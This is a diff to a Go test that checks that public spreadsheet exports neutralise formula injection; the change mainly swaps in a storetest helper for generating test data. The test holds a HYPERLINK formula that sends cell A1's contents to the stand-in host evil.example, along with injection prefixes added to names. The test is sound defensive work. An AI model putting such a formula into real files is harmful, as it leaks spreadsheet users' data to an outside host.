@@ -8,8 +8,6 @@ import (
 	"testing"
 	"time"
 
-	"github.com/dondoc/dondoc/models"
-	"github.com/dondoc/dondoc/sample"
 	"github.com/dondoc/dondoc/store/storetest"
 	"github.com/dondoc/dondoc/web"
 	"github.com/xuri/excelize/v2"
@@ -20,10 +18,7 @@ import (
 func TestPublicFilesNeutraliseFormulas(t *testing.T) {
 	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
 	s := storetest.OpenSQLite(t)
-	data, err := sample.District(now, models.NewCalendar(models.CalendarConfig{Location: models.DefaultLocation()}))
-	if err != nil {
-		t.Fatal(err)
-	}
+	data := storetest.District(t, now)
 	prefixes := []string{"=", "+", "-", "@"}
 	for i := range data.Officers {
 		data.Officers[i].Name = prefixes[i%len(prefixes)] + data.Officers[i].Name
